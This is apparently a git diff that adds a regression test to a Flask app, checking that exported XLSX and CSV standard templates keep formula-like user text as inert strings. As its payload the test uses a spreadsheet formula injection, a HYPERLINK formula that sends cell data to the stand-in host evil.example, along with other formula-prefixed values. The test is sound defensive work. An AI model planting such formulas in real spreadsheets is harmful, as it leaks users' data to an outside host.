@@ -8,18 +8,21 @@ data standards, replayed as failing cases first.
   field serves and the dataset a reply names overflowed SQLite (a 500).
 - A signalling NaN as a field's smallest number failed converting to float (a 500)."""
 
+import io
 from datetime import date
 
 import pytest
 import sqlalchemy as sa
 from flask.testing import FlaskClient
+from openpyxl import load_workbook
 
 from insights.auth.models import User
 from insights.datasets.models import Dataset, NeedDatasetLink
 from insights.extensions import db
 from insights.requests.services import draft_request, mark_sent
 from insights.standards.models import StandardField
-from insights.standards.services import draft_from_workshop
+from insights.standards.outputs import csv_template, xlsx_template
+from insights.standards.services import FieldInput, draft_from_workshop, save_field
 from insights.workshops.models import Workshop
 from tests.factories import csrf_token_from, log_in, make_statement, make_user, make_workshop
 
@@ -202,3 +205,35 @@ def test_a_standard_field_serves_only_needs_of_its_own_workshop(
         sa.select(StandardField).where(StandardField.name == "volunteers_count")
     )
     assert saved is not None and saved.needs == []
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def test_the_standard_templates_run_no_formula_from_a_need_or_a_field(
+    users: dict[str, User], ours: Workshop
+) -> None:
+    need = make_statement(db.session, ours, FORMULA)
+    standard = draft_from_workshop(db.session, ours, users["lead"])
+    version = standard.versions[0]
+    save_field(
+        db.session,
+        version,
+        FieldInput(
+            name="band",
+            title=FORMULA,
+            question=FORMULA,
+            guidance="+1+1",
+            allowed_values=[{"code": "@SUM(1)", "label": "-2+3"}],
+            need_ids=[need.id],
+        ),
+        users["lead"],
+    )
+    db.session.commit()
+    workbook = load_workbook(io.BytesIO(xlsx_template(version)))
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    texts = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "@"))]
+    assert texts, "the hostile text is in the workbook"
+    assert all(cell.data_type == "s" for cell in texts)
+    template = csv_template(version).decode("utf-8-sig")
+    assert template.splitlines()[0].split(",")[-1] == "band"
